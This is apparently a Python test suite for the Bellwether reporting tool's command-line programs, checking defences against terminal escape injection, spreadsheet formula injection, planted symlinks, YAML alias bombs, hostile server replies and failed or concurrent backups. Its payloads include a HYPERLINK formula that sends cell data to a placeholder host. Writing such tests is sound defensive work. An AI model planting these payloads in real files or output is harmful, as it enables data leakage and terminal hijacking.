"""Files and terminals: nothing that others chose steers a terminal, runs in a spreadsheet, or is replaced or lost in silence."""

import concurrent.futures
import csv
import io
import os
import pathlib
import pty
import re
import resource
import signal
import stat
import subprocess
import tempfile
import threading
import unittest

import grpc
import openpyxl
from bellwether.v1 import ingestion_service_pb2 as ingestion_pb
from bellwether.v1 import query_service_pb2 as query_pb
from bellwether.v1 import query_service_pb2_grpc as query_grpc
from bellwether.v1 import record_pb2 as record_pb
from stack import BIN, COUNCIL, PATIENCE, StackTest, indicator, reading

ESCAPE = "\x1b]0;owned\x07\x1b[2J"
RIGHT_TO_LEFT = "\u202e"
FORMULA = '=HYPERLINK("http://example.invalid/?x="&B2,"open")'


def raw(output):
    """The characters that a terminal would obey, or a reader not see, in what a program wrote."""
    return re.findall("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060\u2066-\u2069\ufeff\udc80-\udcff]", output)


class FilesTest(StackTest):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.define(cls(), indicator("F1"), indicator("F2", "notes: ['=1+1']"))
        r = reading("F1", "2022-02", "-3.5")
        r.source = "@SUM(1)"
        comment = record_pb.Comment(council=COUNCIL, ref="F1", period="2022-02", comment_id=r.reading_id, text=FORMULA)
        positions = [x.position for x in cls.ingestion.RecordReadings(ingestion_pb.RecordReadingsRequest(readings=[r]), timeout=PATIENCE).results]
        positions.append(cls.ingestion.RecordComment(ingestion_pb.RecordCommentRequest(comment=comment), timeout=PATIENCE).position)
        cls.score(cls(), "F1", "2022-02", positions)

    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)

    def environment(self, **more):
        stack = self.stack
        return {**os.environ, "BELLWETHER_COUNCIL": COUNCIL, "BELLWETHER_INGESTION": stack.address(stack.ingestion),
                "BELLWETHER_QUERY": stack.address(stack.query), "BELLWETHER_KAFKA": stack.kafka, **more}

    def run_with(self, arguments, **more):
        """Runs a program; code, standard output and standard error, bytes that are not UTF-8 as surrogates."""
        result = subprocess.run([BIN / arguments[0], *arguments[1:]], env=self.environment(), timeout=PATIENCE, check=False,
                                **{"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "errors": "surrogateescape", "text": True, "stdin": subprocess.DEVNULL, **more})
        return result.returncode, result.stdout, result.stderr

    def file(self, name, content):
        path = self.folder / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return path

    # Standard output.

    def test_a_full_disk_behind_standard_output_is_an_error(self):
        bellwether = [[], ["--help"], ["--version"], ["--print-flags"], ["--check-config"], ["catalogue", "show"], ["catalogue", "show", "F1"], ["catalogue", "schema"],
                      ["catalogue", "check", str(self.file("same.yaml", self.run_with(["bellwether", "catalogue", "show", "F1"])[1]))],
                      ["readings", "due"], ["readings", "due", "--format", "csv"], ["readings", "template"], ["readings", "export"],
                      ["readings", "submit", "--check", str(self.file("good.csv", "ref,period,value\nF1,2022-01,5\n"))],
                      ["report"], ["report", "--format", "csv"], ["report", "--format", "json"], ["report", "-o", "/proc/self/fd/1"],
                      ["findings"], ["findings", "--format", "csv"], ["findings", "--format", "json"], ["explain", "F1"], ["explain", "F1", "--format", "json"],
                      ["indicator", "F1"], ["indicator", "F1", "--format", "json"], ["watch", "--seconds", "60"],
                      ["dead-letters", "list"], ["dead-letters", "list", "--format", "csv"], ["comment", "F2", "2022-01", "words"]][1:]
        services = [[f"bellwether-{service}", *arguments] for service in ("ingestion", "scoring", "query", "standalone")
                    for arguments in (["--help"], ["--version"], ["--print-flags"], ["--check-config"])]
        for service in (self.stack.ingestion, self.stack.scoring, self.stack.query):
            admin = ["--admin", f"127.0.0.1:{service.ports['admin']}"]
            services += [[service.name, "health", *admin], [service.name, "log-level", *admin]]
        admin = [["bellwether-admin", *arguments] for arguments in (["--help"], ["--version"], ["--print-flags"], ["--check-config"], ["backup", str(self.folder / "backup")],
                                                                   ["backup", "--verify", str(self.folder / "verified")])]
        self.assertEqual(self.run_with(["bellwether-admin", "backup", str(self.folder / "verified")])[0], 0)
        calls = [["bellwether", *arguments] for arguments in bellwether] + services + admin
        def call(arguments):
            with open("/dev/full", "w", encoding="utf-8") as full:
                return arguments, self.run_with(arguments, stdout=full)
        with concurrent.futures.ThreadPoolExecutor(4) as pool:
            for arguments, (code, _, err) in pool.map(call, calls):
                with self.subTest(arguments):
                    self.assertNotIn(code, (0, -6, -11), err)
                    self.assertIn("No space left on device", err)

    def test_a_closed_standard_output_is_an_error(self):
        result = subprocess.run(["sh", "-c", '"$0" report >&-', BIN / "bellwether"], env=self.environment(), capture_output=True, text=True, timeout=PATIENCE, check=False)
        self.assertEqual(result.returncode, 1, result.stderr)
        self.assertIn("standard output cannot be written", result.stderr)

    # Files that are written.

    def test_what_is_no_file_is_written_through(self):
        expected = self.run_with(["bellwether", "report", "--format", "csv"])[1]
        os.mkfifo(self.folder / "pipe")
        got = []
        reader = threading.Thread(target=lambda: got.append((self.folder / "pipe").read_bytes().decode()), daemon=True)
        reader.start()
        self.assertEqual(self.run_with(["bellwether", "report", "--format", "csv", "-o", str(self.folder / "pipe")])[0], 0)
        reader.join(PATIENCE)
        self.assertEqual([text.replace("\r\n", "\n") for text in got], [expected])
        self.assertTrue(stat.S_ISFIFO(os.lstat(self.folder / "pipe").st_mode))
        # Behind a link of ours, so that what replaces it replaces the link.
        (self.folder / "full").symlink_to("/dev/full")
        code, _, err = self.run_with(["bellwether", "report", "-o", str(self.folder / "full")])
        self.assertNotEqual(code, 0)
        self.assertIn("No space left", err)
        self.assertTrue((self.folder / "full").is_symlink())
        code, out, _ = self.run_with(["bellwether", "report", "--format", "csv", "-o", "/proc/self/fd/1"])
        self.assertEqual((code, out), (0, expected))

    def test_the_names_of_devices_stay(self):
        # In a /dev of its own: whatever happens to it, the machine's is not touched.
        script = ('mount -t tmpfs none /dev && mknod /dev/full c 1 7 && mknod /dev/null c 1 3 && ln -s /proc/self/fd /dev/fd && ln -s fd/1 /dev/stdout || exit 77; '
                  '"$0" report --format csv -o /dev/stdout >"$1" || exit 1; "$0" report -o /dev/full && exit 2; "$0" report -o /dev/null || exit 3; '
                  'test -L /dev/stdout && test -c /dev/full && test -c /dev/null && test "$(ls /dev | wc -l)" = 4')
        to_file = self.file("out.csv", "")
        result = subprocess.run(["unshare", "--mount", "--propagation", "private", "sh", "-c", script, BIN / "bellwether", to_file], env=self.environment(),
                                capture_output=True, text=True, timeout=PATIENCE, check=False)
        if result.returncode == 77 or "unshare failed" in result.stderr:
            self.skipTest(f"no /dev of its own here: {result.stderr}")
        self.assertEqual(result.returncode, 0, result.stderr)
        self.assertIn("F1,", to_file.read_text(encoding="utf-8"))

    def test_a_planted_link_is_not_followed(self):
        victim = self.file("victim", "precious")
        for planted in ("report.csv.part", "report.csv.unfinished", "report.csv"):
            with self.subTest(planted):
                (self.folder / planted).unlink(missing_ok=True)
                (self.folder / planted).symlink_to(victim)
                code, _, err = self.run_with(["bellwether", "report", "--format", "csv", "-o", str(self.folder / "report.csv")])
                self.assertEqual(code, 0, err)
                self.assertEqual(victim.read_text(encoding="utf-8"), "precious")
                self.assertIn("F1,", (self.folder / "report.csv").read_text(encoding="utf-8"))

    # What a terminal sees.

    def test_names_arguments_and_files_steer_no_terminal(self):
        bad = f"{ESCAPE}{RIGHT_TO_LEFT}\u009b31m\x7f"
        odd_name = str(self.file(f"cat{ESCAPE}{RIGHT_TO_LEFT}", "council: x\n"))
        calls = [["explain", bad], ["explain", "F1", "--period", bad], [bad], ["report", f"--{bad}"], ["report", "--period", bad], ["report", "--directorate", bad],
                 ["indicator", bad], ["comment", "F1", bad, bad], ["readings", "withdraw", bad, bad], ["dead-letters", "show", bad], ["dead-letters", "replay", bad],
                 ["--query", bad, "report"], ["--timeout", "1", "--query", f"localhost:{bad}", "report"], ["--council", bad, "report"], ["readings", "template", "-o", f"/nowhere/{bad}"], ["readings", "submit", f"/nowhere/{bad}"],
                 ["readings", "template", "--period", bad], ["catalogue", "show", bad], ["catalogue", "check", f"/nowhere/{bad}"], ["catalogue", "check", odd_name],
                 ["catalogue", "check", str(self.file("a.yaml", f'council: "{COUNCIL}"\n"\\e[2J\\u202e": 1\nindicators: [{{polarity: "\\e[2J\\u202e"}}]\n'))],
                 ["catalogue", "check", str(self.file("b.yaml", f"council: {RIGHT_TO_LEFT}{COUNCIL}\nindicators: [{{ref: {RIGHT_TO_LEFT}, unit: {RIGHT_TO_LEFT}}}]\n"))],
                 ["readings", "submit", str(self.file("a.csv", f"ref,period,value,{bad}\n"))],
                 ["readings", "submit", "--check", str(self.file("b.csv", f"ref,period,value\n{bad},{bad},{bad}\n"))],
                 ["readings", "submit", str(self.file("c.csv", f"ref,period,value,comment\n{bad},{bad},{bad},{bad}\n"))]]
        for arguments in calls:
            with self.subTest(arguments):
                code, out, err = self.run_with(["bellwether", *arguments])
                self.assertIn(code, (1, 2, 3), err)
                self.assertTrue(err)
                self.assertEqual(raw(out + err), [], err)
        code, out, err = self.run_with([b"bellwether".decode(), "explain", b"\xff\xfe\xc0\x9b"])
        self.assertEqual((code, raw(out + err)), (1, []), err)
        for arguments in (["backup", f"/nowhere/{bad}"], ["backup", "--verify", f"/nowhere/{bad}"], ["restore", f"/nowhere/{bad}", "--redact-comment", bad], [bad], ["topics", "--kafka", bad]):
            code, out, err = self.run_with(["bellwether-admin", "--timeout", "1", *arguments])
            self.assertIn(code, (1, 2, 3), err)
            self.assertEqual(raw(out + err), [], err)
        code, out, err = self.run_with(["bellwether-query", f"--{bad}", "--listen", bad])
        self.assertEqual((code, raw(out + err)), (2, []), err)

    def test_what_a_server_says_steers_no_terminal(self):
        class Hostile(query_grpc.QueryServiceServicer):
            def GetReport(self, request, context):  # noqa: N802
                answer = query_pb.GetReportResponse(period="2022-02" + ESCAPE, total_rows=1)
                row = answer.rows.add()
                for field in ("ref", "description", "directorate", "service", "unit"):
                    setattr(row.definition, field, f"{field}{ESCAPE}{RIGHT_TO_LEFT}\u009b2J\ttab\rreturn")
                row.score.current.status = row.score.arrow = ESCAPE
                row.score.current.value.value = "1" + ESCAPE
                row.score.scheme_id = "s"
                scheme = answer.schemes.add(id="s", name=ESCAPE)
                scheme.statuses.add(id=ESCAPE, label=ESCAPE, shape=ESCAPE, colour="#" + "\x1b[2J  ", meaning=ESCAPE)
                return answer

            def ExplainScore(self, request, context):  # noqa: N802
                context.abort(grpc.StatusCode.NOT_FOUND, "gone%1B[2J" + RIGHT_TO_LEFT)

        server = grpc.server(concurrent.futures.ThreadPoolExecutor(2))
        self.addCleanup(server.stop, None)
        query_grpc.add_QueryServiceServicer_to_server(Hostile(), server)
        port = server.add_insecure_port("127.0.0.1:0")
        server.start()
        at = ["--query", f"127.0.0.1:{port}"]
        code, out, err = self.run_with(["bellwether", *at, "report"])
        self.assertEqual((code, raw(out + err)), (0, []))
        self.assertIn("<U+001B>", out)
        code, out, err = self.run_with(["bellwether", *at, "explain", "F1"])
        self.assertEqual((code, raw(out + err)), (1, []))
        self.assertIn("gone", err)
        self.assertIn(ESCAPE, self.run_with(["bellwether", *at, "report", "--format", "csv"])[1], "a program gets what there is")
        for arguments in (["report"], ["report", "--format", "csv"], ["report", "--format", "csv", "-o", "/proc/self/fd/1"]):
            shown = self.on_a_terminal(["bellwether", *at, *arguments])
            self.assertEqual(raw(re.sub("\x1b\\[38;2;\\d+;\\d+;\\d+m|\x1b\\[[01]m", "", shown).replace("\r\n", "\n")), [], shown)

    def on_a_terminal(self, arguments):
        master, slave = pty.openpty()
        pieces = []
        def read():
            while True:
                try:
                    piece = os.read(master, 65536)
                except OSError:
                    return
                if not piece:
                    return
                pieces.append(piece)
        reader = threading.Thread(target=read, daemon=True)
        reader.start()
        subprocess.run([BIN / arguments[0], *arguments[1:]], env=self.environment(TERM="xterm", COLUMNS="200"), stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, timeout=PATIENCE, check=False)
        os.close(slave)
        reader.join(PATIENCE)
        os.close(master)
        self.assertTrue(pieces)
        return b"".join(pieces).decode(errors="surrogateescape")

    # How much is said.

    def test_errors_are_capped(self):
        laughs = f"council: {COUNCIL}\nindicators:\n  - &a {{" + "".join(f"wrong{n}: x, " for n in range(3_000)) + "}\n" + "  - *a\n" * 12_000
        rows = "ref,period,value\n" + "F9,2022-13,x\n" * 20_000
        for arguments in (["catalogue", "check", str(self.file("laughs.yaml", laughs))], ["readings", "submit", "--check", str(self.file("rows.csv", rows))],
                          ["readings", "submit", str(self.file("short.csv", "ref,period,value\n" + "F1\n" * 100_000))],
                          ["readings", "submit", str(self.file("empty.csv", "ref,period,value,published_arrow\n" + "F1,2022-01,,x\n" * 100_000))]):
            with self.subTest(arguments[-1]):
                code, out, err = self.run_with(["bellwether", *arguments])
                self.assertEqual(code, 1, err[:1000])
                self.assertLess(len(out) + len(err), 200_000)
                self.assertRegex(err, r"\.\.\. and \d+ more like these")

    # Spreadsheets.

    def test_no_cell_is_run_by_a_spreadsheet_and_all_come_back(self):
        exported = self.folder / "export.csv"
        self.stack.cli("readings", "export", "-o", str(exported))
        for text in (exported.read_text(encoding="utf-8"), self.stack.cli("report", "--period", "2022-02", "--format", "csv").stdout):
            self.assertIn("\"'=HYPERLINK(", text)
            self.assertIn(",-3.5,", text, "a figure stays one")
        self.assertIn(",'@SUM(1),", exported.read_text(encoding="utf-8"))
        self.assertIn("\"'=HYPERLINK(", self.stack.cli("report", "--period", "2022-02", "--format", "sdmx-csv").stdout)
        workbook = self.folder / "report.xlsx"
        self.stack.cli("report", "--period", "2022-02", "--format", "xlsx", "-o", str(workbook))
        cells = [cell for row in openpyxl.load_workbook(workbook)["Report"].iter_rows() for cell in row]
        self.assertEqual([cell.data_type for cell in cells if cell.value == FORMULA], ["s"])
        self.assertEqual([cell.value for cell in cells if cell.data_type == "f"], [])
        rows = list(csv.DictReader(io.StringIO(exported.read_text(encoding="utf-8-sig"))))
        comments = sum(1 for row in rows if row["comment"])
        told = self.stack.cli("readings", "submit", str(exported)).stdout
        self.assertRegex(told, r"0 of (\d+) readings and 0 comments recorded; \1 readings are in force already; "
                         f"{comments} comments are in force already\n")
        again = self.folder / "again.csv"
        self.stack.cli("readings", "export", "-o", str(again))
        self.assertEqual(again.read_bytes(), exported.read_bytes())

    def test_a_check_says_all_that_a_submit_would(self):
        file = self.file("comments.csv", "ref,period,value,comment\nF2,2022-08,18.5,fine\nF9,2022-08,,no such indicator\nF2,2022-13,,no such month\n"
                         f"F2,2022-08,91.0,pasted\x07from elsewhere\nF2,2022-09,5,{'x' * 10_001}\n")
        code, out, checked = self.run_with(["bellwether", "readings", "submit", "--check", str(file)])
        self.assertEqual(code, 1)
        self.assertIn("5 rows checked, nothing recorded", out)
        for place in ("line 3", "line 4", "line 5", "line 6"):
            self.assertIn(place, checked)
        self.assertNotIn("line 2 ", checked)
        self.assertNotIn("fine", self.stack.cli("readings", "export").stdout)
        code, _, submitted = self.run_with(["bellwether", "readings", "submit", str(file)])
        self.assertEqual(code, 1)
        self.assertEqual(sorted(checked.splitlines()), sorted(submitted.splitlines()))

    # Backups.

    def admin(self, *arguments):
        return self.run_with(["bellwether-admin", *map(str, arguments)])

    def test_two_backups_to_one_name_at_once(self):
        succeeded = 0
        for n in range(15):
            path = self.folder / f"backup{n}"
            running = [subprocess.Popen([BIN / "bellwether-admin", "backup", path], env=self.environment(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
                       for _ in range(3)]
            ends = [(process.communicate(timeout=PATIENCE), process.returncode) for process in running]
            good = [out for (out, _), code in ends if code == 0]
            self.assertLessEqual(len(good), 1, ends)
            for (_, err), code in ends:
                self.assertTrue(code == 0 or "another process is writing it" in err or "exists already" in err, err)
            if good:
                succeeded += 1
                self.assertEqual(self.admin("backup", "--verify", path)[0], 0)
            self.assertFalse(path.with_name(path.name + ".unfinished").exists())
        self.assertGreater(succeeded, 0)

    def test_a_backup_that_is_killed_is_in_nobodys_way(self):
        path = self.folder / "backup"
        unfinished = self.folder / "backup.unfinished"
        killed = subprocess.run([BIN / "bellwether-admin", "backup", path], env=self.environment(), capture_output=True, timeout=PATIENCE,
                                preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (10, 10)))  # The kernel kills who writes more.
        self.assertEqual(killed.returncode, -signal.SIGXFSZ, killed.stderr)
        self.assertTrue(unfinished.exists(), "killed midway")
        self.assertFalse(path.exists())
        os.chmod(unfinished, 0o666)
        self.assertEqual(self.admin("backup", path)[0], 0)
        self.assertEqual(stat.S_IMODE(os.lstat(path).st_mode), 0o600)
        self.assertEqual([p.name for p in self.folder.iterdir()], ["backup"])

    def test_what_is_planted_beside_a_backup_is_not_written_to(self):
        victim = self.file("victim", "precious")
        (self.folder / "backup.unfinished").symlink_to(victim)
        self.assertEqual(self.admin("backup", self.folder / "backup")[0], 0)
        self.assertEqual(victim.read_text(encoding="utf-8"), "precious")
        (self.folder / "dangling").symlink_to(self.folder / "none")
        self.assertEqual(self.admin("backup", self.folder / "dangling")[0], 1)
        self.assertFalse((self.folder / "none").exists())

    def test_a_backup_is_verified_without_a_broker(self):
        path = self.folder / "backup"
        self.assertEqual(self.admin("backup", path)[0], 0)
        nowhere = ["--kafka", "127.0.0.1:1", "--kafka-property-file", "/nowhere", "--verify"]
        code, out, err = self.admin("backup", *nowhere, path)
        self.assertEqual(code, 0, err)
        self.assertRegex(out, r": whole, \d+ records of bellwether\.indicators\.v1\.e1, epoch 1, \d+ partitions, begun at ")
        whole = path.read_bytes()
        for content, words in ((whole + b"x", "1 bytes follow its end"), (whole + whole, "follow its end"), (whole[:-3], "cut off"), (whole[:-100], "backup"), (b"", "no backup"),
                               (whole[:len(whole) // 2] + b"\x55" + whole[len(whole) // 2 + 1:], "backup: ")):
            path.write_bytes(content)
            code, _, err = self.admin("backup", *nowhere, path)
            self.assertEqual(code, 1, err)
            self.assertIn(words, err)
        for missing in (self.folder / "none", self.folder):
            code, _, err = self.admin("backup", *nowhere, missing)
            self.assertEqual(code, 1, err)
            self.assertIn(str(missing), err)

    def test_settings_that_are_no_file_are_told(self):
        for path in (self.folder, "/dev/null"):
            code, _, err = self.run_with(["bellwether-query", "--check-config", "--kafka-property-file", str(path)])
            self.assertEqual(code, 2, err)
            self.assertIn("is no regular file", err)


if __name__ == "__main__":
    unittest.main(verbosity=2)
